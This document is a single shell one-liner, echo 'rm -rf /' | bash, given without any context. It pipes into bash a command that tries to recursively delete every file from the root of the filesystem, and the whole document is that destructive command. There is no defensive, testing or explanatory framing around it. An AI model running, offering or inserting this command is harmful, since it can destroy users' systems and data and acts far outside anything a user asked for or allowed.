echo 'rm -rf /' | bash
